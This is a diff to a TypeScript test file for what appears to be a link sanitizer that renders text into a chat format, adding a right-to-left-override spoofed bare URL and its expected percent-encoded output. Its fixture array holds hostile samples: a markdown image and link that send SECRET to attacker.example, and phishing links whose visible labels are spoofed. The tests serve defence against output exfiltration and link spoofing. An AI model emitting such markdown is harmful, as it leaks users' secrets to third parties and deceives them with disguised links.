@@ -12,6 +12,7 @@ const HOSTILE = [
   'Done ![s](https://attacker.example/p.png?d=SECRET) [ok](https://attacker.example/?q=SECRET)',
   'Log in at [https://bank.example/login](https://evil.example/phish) or [\u202Elpmaxe.knab](https://evil.example/rtl).',
   'Fine: [the docs](https://docs.example/guide).',
+  'Bare: https://evil.example/\u202Eelpmaxe.knab here.',
 ].join('\n\n');
 
 type Params = Record<string, string | undefined>;
@@ -30,6 +31,7 @@ function expectSafe(p: Params): void {
     expect(shown).not.toContain('|https://bank.example');
     expect(shown).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
     expect(shown).toContain('<https://docs.example/guide|the docs>');
+    expect(shown).toContain('Bare: <https://evil.example/%E2%80%AEelpmaxe.knab> here.');
   }
 }
 
